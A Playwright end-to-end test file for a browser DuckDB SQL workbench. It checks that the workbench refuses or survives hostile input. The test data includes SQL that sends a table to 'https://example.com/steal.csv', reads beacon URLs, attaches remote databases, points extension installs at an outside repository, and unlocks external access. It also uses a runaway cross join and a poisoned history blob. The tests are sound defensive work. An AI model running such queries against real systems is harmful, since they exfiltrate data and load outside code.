// The workbench under hostile input (issue #13): links whose query tries to reach another
// host, a query that will not stop, results that would kill the tab, a poisoned history.
// One browser, one shared workbench tab; a fresh tab only where the page's start matters.
import type {Browser, Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, inject, it} from "vitest";
import {HISTORY_KEY} from "../../src/components/workbench/history.ts";
import {launchBrowser, openWorkbench, screenshot, watchedPage, type WatchedPage} from "./browser.ts";

const siteUrl = inject("siteUrl");
let browser: Browser;
let shared: WatchedPage;

beforeAll(async () => {
  browser = await launchBrowser();
  shared = await watchedPage(browser);
  await openWorkbench(shared.page, siteUrl);
});

afterAll(async () => {
  await browser?.close();
});

const runCount = (page: Page) => page.$eval(".wb", (element) => Number((element as HTMLElement).dataset.runs ?? 0));

/** Opens `/sql#q=…` in the tab and waits for that query's run to end; returns what the reader sees. */
async function openLink(page: Page, sql: string): Promise<{error: string | null; summary: string; cells: string[]}> {
  const before = await runCount(page);
  await page.goto(`${siteUrl}/sql#q=${encodeURIComponent(sql)}`);
  await page.waitForFunction((n) => Number(document.querySelector<HTMLElement>(".wb")?.dataset.runs ?? 0) > n, before, {timeout: 60_000});
  return page.evaluate(() => ({
    error: document.querySelector<HTMLElement>(".wb-error")!.hidden ? null : document.querySelector(".wb-error")!.textContent,
    summary: document.querySelector(".wb-summary")?.textContent ?? "",
    cells: [...document.querySelectorAll(".wb-result tbody td")].map((td) => td.textContent ?? "")
  }));
}

describe("a workbench link that tries to leave this site", () => {
  const attempts: [string, RegExp][] = [
    ["SELECT * FROM read_csv_auto('http://example.com/beacon.csv?visitor=1')", /Reading files or addresses/],
    ["SELECT * FROM 'https://example.com/beacon.parquet'", /sealed/],
    ["COPY (SELECT * FROM sources) TO 'https://example.com/steal.csv'", /COPY is switched off/],
    ["ATTACH 'https://example.com/remote.duckdb' AS remote", /cannot be attached|Reading files/],
    ["SET custom_extension_repository = 'https://example.com/extensions'", /settings are locked/],
    ["SET enable_external_access = true", /settings are locked/],
    ["INSTALL httpfs FROM 'https://example.com/extensions'", /Extensions cannot be installed/],
    ["LOAD httpfs", /Extensions cannot be/]
  ];

  for (const [sql, message] of attempts) {
    it(`is refused with a clear message: ${sql}`, async () => {
      const seen = await openLink(shared.page, sql);
      expect(seen.error).toMatch(/The workbench is sealed to this site/);
      expect(seen.error).toMatch(message);
      expect(shared.problems).toEqual([]); // no request left 127.0.0.1, no console error, no CSP violation
    });
  }

  it("still reads the site's own tables afterwards", async () => {
    const seen = await openLink(shared.page, "SELECT count(*) AS n FROM sources WHERE source_id IS NOT NULL");
    expect(seen.error).toBeNull();
    expect(Number(seen.cells[0])).toBeGreaterThan(0);
  });
});

describe("a query that will not stop", () => {
  it("is cancelled, the database restarts with the site's tables, and SELECT 42 answers within 2 s", async () => {
    const {page} = shared;
    // Cancel, not the time limit, must stop it, however slowly a loaded machine opens the spare.
    await page.fill(".wb-time-limit", "900");
    const before = await runCount(page);
    await page.goto(`${siteUrl}/sql#q=${encodeURIComponent("SELECT sum(hash(a.range*31+b.range)) FROM range(1000000) a, range(1000000) b")}`);
    await page.waitForSelector('.wb[data-state="running"]');
    // The workbench opens a spare database once a query has run for a second; wait for it, as a reader would.
    await page.evaluate(() => (globalThis as any).observatory.prepareSpare());
    const cancelledAt = Date.now();
    await page.click(".wb-cancel");
    await page.waitForFunction((n) => Number(document.querySelector<HTMLElement>(".wb")?.dataset.runs ?? 0) > n, before, {timeout: 90_000});
    const stoppedMs = Date.now() - cancelledAt;
    expect(await page.textContent(".wb-error")).toMatch(/Query cancelled\. It did not stop when asked, so the database was restarted/);
    const seen = await openLink(page, "SELECT 42 AS answer");
    const answeredMs = Date.now() - cancelledAt;
    console.log(`cross join: stopped ${stoppedMs} ms after Cancel, SELECT 42 answered ${answeredMs} ms after Cancel`);
    expect(seen.cells).toEqual(["42"]);
    // How fast (the issue asks ≤ 2 s) is measured by `npm run bench`, not asserted here.
    const tables = await openLink(page, "SELECT count(*) FROM observations");
    expect(Number(tables.cells[0])).toBeGreaterThan(0);
    expect(shared.problems).toEqual([]);
  });
});

describe("results that would kill the tab", () => {
  it("a 100-million-character cell arrives cut, with a note, and the tab keeps working", async () => {
    const seen = await openLink(shared.page, "SELECT repeat('x', 100000000) AS huge");
    expect(seen.error).toBeNull();
    expect(seen.summary).toMatch(/1 cell is longer than 10,000 characters and cut/);
    expect(seen.cells[0].length).toBeLessThan(10_100);
    expect(seen.cells[0]).toMatch(/… \[cut: 100000000 characters in all\]$/);
    expect((await openLink(shared.page, "SELECT 42")).cells).toEqual(["42"]);
    await screenshot(shared.page, "sql-cut-cell");
  });

  it("600 columns arrive as the first 500, with a note", async () => {
    const seen = await openLink(shared.page, `SELECT ${Array.from({length: 600}, (_, i) => `${i} AS c${i}`).join(", ")}`);
    expect(seen.error).toBeNull();
    expect(seen.summary).toMatch(/the result has 600 columns; the workbench keeps the first 500/);
    expect(seen.cells).toHaveLength(500);
  });

  it("6,000 literal columns (a statement too long for DuckDB-WASM) are refused with a reason, and the next query works", async () => {
    const seen = await openLink(shared.page, `SELECT ${Array.from({length: 6000}, (_, i) => `${i} AS c${i}`).join(", ")}`);
    expect(seen.error).toMatch(/bytes long\. DuckDB-WASM 1\.29 breaks on statements/);
    expect((await openLink(shared.page, "SELECT 42")).cells).toEqual(["42"]);
    expect(shared.problems).toEqual([]);
  });
});

describe("a poisoned history", () => {
  it("is dropped with a note and the workbench renders and runs", async () => {
    const watched = await watchedPage(browser);
    const poison = JSON.stringify([
      {query: "SELECT 1", ranAt: "x", rows: {toLocaleString: 1}, error: null},
      ...Array.from({length: 30_000}, (_, i) => ({query: `SELECT ${i}`, ranAt: "2026-01-01T00:00:00.000Z", rows: 1, error: null}))
    ]);
    await watched.page.addInitScript(([key, value]) => localStorage.setItem(key, value), [HISTORY_KEY, poison] as const);
    await openWorkbench(watched.page, siteUrl);
    expect(await watched.page.textContent(".wb-history-note")).toBe("Stored history: 1 damaged entry was dropped; 29,950 older entries were left out (the history keeps 50).");
    expect(await watched.page.$$eval(".wb-history > li", (items) => items.length)).toBe(50);
    await watched.page.click(".wb-clear-history");
    expect(await watched.page.textContent(".wb-history")).toMatch(/Queries you run appear here/);
    expect(watched.problems).toEqual([]);
    await watched.page.context().close();
  });
});
